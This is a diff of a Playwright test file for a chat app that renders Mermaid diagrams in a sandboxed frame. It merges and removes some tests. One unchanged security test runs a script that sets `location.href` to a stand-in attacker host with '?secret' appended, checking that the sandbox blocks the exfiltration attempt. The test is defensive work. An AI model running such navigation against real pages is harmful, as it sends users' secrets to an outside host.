@@ -1,6 +1,6 @@
 /** Diagrams of replies: drawn in a frame that can reach neither the page nor the network (docs/safety.md 47). */
 import type { FrameLocator, Page } from 'playwright/test';
-import { expect, expectAccessible, goOffline, send, test } from './fixtures.ts';
+import { expect, expectAccessible, send, test } from './fixtures.ts';
 
 const FLOW = 'flowchart TD\n  A[Start] --> B{Ready?}\n  B -->|yes| C[Go]\n  B -->|no| A';
 
@@ -104,7 +104,7 @@ const frame = (page: Page) => last(page).getByTitle('Diagram', { exact: true });
 const inside = (page: Page): FrameLocator => frame(page).contentFrame();
 const diagram = (page: Page) => inside(page).locator('#diagram > svg');
 
-test('a diagram is drawn in a frame of its own when the user asks for it, and its source comes back', async ({
+test('a diagram is drawn in a frame of its own, its source comes back, and a mistake is shown with its line', async ({
   chat,
   stack,
 }) => {
@@ -126,17 +126,14 @@ test('a diagram is drawn in a frame of its own when the user asks for it, and it
   await last(chat).getByRole('button', { name: 'Show source' }).click();
   await expect(frame(chat)).toHaveCount(0);
   await expect(last(chat).getByText('A[Start] --> B{Ready?}')).toBeVisible();
-});
-
-test('a diagram with a mistake shows the line of the mistake, and its source', async ({ chat, stack }) => {
-  stack.replyWith(fence('flowchart TD\n  A[Start --> B'));
-  await send(chat, 'A diagram, please');
+  // The frame gives Mermaid's own words about a mistake.
+  stack.replyWith(`${fence('flowchart TD\n  A[Start --> B')}That is all.`);
+  await send(chat, 'Another diagram, please');
+  await expect(last(chat).getByText('That is all.')).toBeVisible();
   await show(chat).click();
   await expect(last(chat).getByRole('alert')).toHaveText(
     /^The diagram could not be drawn: Parse error on line \d\.$/,
   );
-  await expect(last(chat).getByText('A[Start --> B')).toBeVisible();
-  await expect(frame(chat)).toHaveCount(0);
 });
 
 test('a hostile diagram runs nothing, loads nothing and leads nowhere', async ({
@@ -197,26 +194,6 @@ test('a script in the frame would reach neither the page, nor its storage, nor t
   await diagram(chat).evaluate("location.href = 'https://evil.example/?secret'");
   await expect(frame(chat)).toHaveCount(0);
   await expect(last(chat).getByRole('alert')).toHaveText('The diagram could not be drawn.');
-});
-
-test('a diagram whose frame cannot be loaded says so, and is drawn once there is a connection', async ({
-  chat,
-  stack,
-  expectedErrors,
-}) => {
-  stack.replyWith(fence(FLOW));
-  await send(chat, 'A diagram, please');
-  await show(chat).click();
-  await expect(diagram(chat)).toBeVisible();
-  await last(chat).getByRole('button', { name: 'Show source' }).click();
-  await goOffline(chat.context(), expectedErrors);
-  await show(chat).click();
-  await expect(last(chat).getByRole('alert')).toHaveText(
-    'The diagram could not be loaded. Check your connection and try again.',
-  );
-  await chat.context().setOffline(false);
-  await show(chat).click();
-  await expect(diagram(chat)).toBeVisible();
 });
 
 test('a diagram that hangs is removed, and the page stays usable meanwhile', async ({
